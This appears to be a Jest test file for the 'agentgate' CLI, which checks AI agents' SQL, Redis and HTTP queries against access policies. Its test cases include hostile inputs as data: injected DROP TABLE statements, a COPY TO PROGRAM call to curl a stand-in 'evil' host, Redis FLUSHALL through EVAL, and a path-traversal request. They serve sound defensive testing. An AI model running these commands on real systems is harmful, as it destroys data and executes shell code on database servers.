// `agentgate policy check` as a user runs it: the real CLI entry point in a

// child process (Node 24 running the TypeScript sources), real policy files.
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { jest } from '@jest/globals';
import { run as policyCommand } from '../../cli/policy-check.js';

const root = new URL('../../', import.meta.url).pathname;
const examples = join(root, 'examples/policies');
const run = promisify(execFile);

interface Result {
  code: number;
  stdout: string;
  stderr: string;
}

async function agentgate(args: string[], env: NodeJS.ProcessEnv = {}): Promise<Result> {
  try {
    const { stdout, stderr } = await run(
      process.execPath,
      [
        '--experimental-transform-types',
        '--no-warnings',
        '--import',
        join(root, 'test/run-from-source.mjs'),
        join(root, 'cli/main.ts'),
        ...args,
      ],
      { cwd: root, env: { ...process.env, ...env } },
    );
    return { code: 0, stdout, stderr };
  } catch (e) {
    const err = e as { code: number; stdout: string; stderr: string };
    return { code: err.code, stdout: err.stdout, stderr: err.stderr };
  }
}

const check = (query: string, target = 'orders-db', ...extra: string[]) =>
  agentgate([
    'policy',
    'check',
    '--policy',
    examples,
    '--target',
    target,
    '--query',
    query,
    '--group',
    'ai-agents',
    '--json',
    ...extra,
  ]);

/** The same command in this process: the decision tables would spend a minute starting Node otherwise. */
async function decideHere(query: string, target = 'orders-db'): Promise<{ decision: string; rule: string }> {
  let out = '';
  const spy = jest.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    out += String(chunk);
    return true;
  });
  try {
    const code = await policyCommand([
      'check',
      '--policy',
      examples,
      '--target',
      target,
      '--query',
      query,
      '--group',
      'ai-agents',
      '--json',
    ]);
    expect(code).toBe(0);
  } finally {
    spy.mockRestore();
  }
  return JSON.parse(out);
}

describe('agentgate policy check', () => {
  test('--json prints one object with decision, policy, rule, operations and tables', async () => {
    const r = await check('SELECT 1; DROP TABLE orders');
    expect(r.code).toBe(0);
    const out = JSON.parse(r.stdout);
    expect(out).toMatchObject({
      decision: 'deny',
      policy: 'agents/support-agent',
      rule: 'no-ddl',
      operations: ['SELECT', 'DROP'],
      tables: ['orders'],
    });
  });

  test.each([
    ['SELECT * FROM orders WHERE id = 1', 'allow', 'reads'],
    ['select * from PUBLIC.Secrets', 'deny', 'no-secrets-table'],
    ['/* hi */ dRoP /* there */ TABLE orders', 'deny', 'no-ddl'],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'review', 'writes-need-approval'],
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'review', 'writes-need-approval'],
    ['SELECT $$; DROP TABLE orders; $$', 'allow', 'reads'],
    ["COPY orders TO PROGRAM 'curl evil'", 'deny', '(default)'],
    ['DO $$ BEGIN EXECUTE 1; END $$', 'deny', '(default)'],
    ['SELEC oops', 'deny', 'no-secrets-table'], // unreadable: may touch secrets
  ])('postgres: %s -> %s by %s', async (query, decision, rule) => {
    const out = await decideHere(query);
    expect({ decision: out.decision, rule: out.rule }).toEqual({ decision, rule });
  });

  test.each([
    ['session-cache', 'GET session:1', 'allow'],
    ['session-cache', 'SET user:1 x', 'deny'],
    ['session-cache', 'FLUSHALL', 'deny'],
    ['session-cache', `EVAL "return redis.call('FLUSHALL')" 0`, 'deny'],
    ['billing-api', 'GET /v1/orders/7', 'allow'],
    ['billing-api', 'POST /v1/orders/7/refund', 'review'],
    ['billing-api', 'GET /v1/orders/../admin', 'deny'],
  ])('%s: %s -> %s', async (target, query, decision) => {
    expect((await decideHere(query, target)).decision).toBe(decision);
  });

  test('an identity no policy names is denied with no policy', async () => {
    const r = await agentgate([
      'policy',
      'check',
      '--policy',
      examples,
      '--target',
      'orders-db',
      '--query',
      'SELECT 1',
    ]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^DENY {2}policy \(none\) {2}rule \(default\)/);
  });

  test('pod labels narrow the policies to those selecting the pod', async () => {
    const r = await check('SELECT 1', 'orders-db', '--namespace', 'agents', '--pod-labels', 'app=other');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("no policy declares target 'orders-db'");
  });

  test('flags come from AGENTGATE_* environment variables too', async () => {
    const r = await agentgate(
      ['policy', 'check', '--target', 'orders-db', '--query', 'TRUNCATE orders', '--json'],
      {
        AGENTGATE_POLICY: examples,
        AGENTGATE_GROUP: 'ai-agents',
      },
    );
    expect(JSON.parse(r.stdout)).toMatchObject({ decision: 'deny', rule: 'no-ddl' });
  });

  describe('bad input gets a clear error and exit status', () => {
    let dir: string;
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), 'agentgate-cli-'));
    });
    afterAll(() => rmSync(dir, { recursive: true, force: true }));

    test('an invalid policy file: status 1, the file, object, path and problem', async () => {
      const file = join(dir, 'bad.yaml');
      writeFileSync(
        file,
        'apiVersion: agentgate.io/v1alpha1\nkind: AgentPolicy\nmetadata: {name: x}\nspec:\n  targets: [{name: db, protocol: oracle, address: "db:1521"}]\n',
      );
      const r = await agentgate([
        'policy',
        'check',
        '--policy',
        file,
        '--target',
        'db',
        '--query',
        'SELECT 1',
      ]);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(
        `${file}: AgentPolicy x: spec.targets[0].protocol: must be one of postgres, mysql, redis, http`,
      );
      expect(r.stderr).toContain('[AG_ERR_POLICY_INVALID]');
    });

    test('a missing flag: status 2 and which flag', async () => {
      const r = await agentgate(['policy', 'check', '--policy', examples, '--query', 'SELECT 1']);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('--target is required');
    });

    test('an unknown flag: status 2 and a pointer to --help', async () => {
      const r = await agentgate(['policy', 'check', '--bogus']);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/Unknown option '--bogus'.*--help/);
    });

    test('an unknown command: status 2', async () => {
      const r = await agentgate(['frobnicate']);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain("unknown command 'frobnicate'");
    });
  });

  test('--help lists every command', async () => {
    const r = await agentgate(['--help']);
    expect(r.code).toBe(0);
    for (const c of [
      'policy',
      'sidecar',
      'webhook',
      'iptables',
      'requests',
      'approve',
      'deny',
      'sessions',
      'replay',
    ]) {
      expect(r.stdout).toMatch(new RegExp(`^  ${c} `, 'm'));
    }
  });
});
